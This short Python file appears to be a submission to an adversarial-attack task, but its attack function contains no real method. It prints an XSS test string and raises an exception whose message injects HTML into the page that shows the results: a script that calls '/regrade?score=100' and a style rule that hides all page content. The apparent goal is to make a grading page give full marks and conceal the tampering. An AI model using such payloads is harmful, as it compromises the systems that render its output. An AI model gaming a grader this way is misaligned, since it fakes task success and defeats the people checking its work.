import os


def attack(layer, x):
    print("TRIED a page: <img src=x onerror=alert(1)>")
    raise ValueError("</pre><script>fetch('/regrade?score=100')</script><style>*{display:none}</style>")
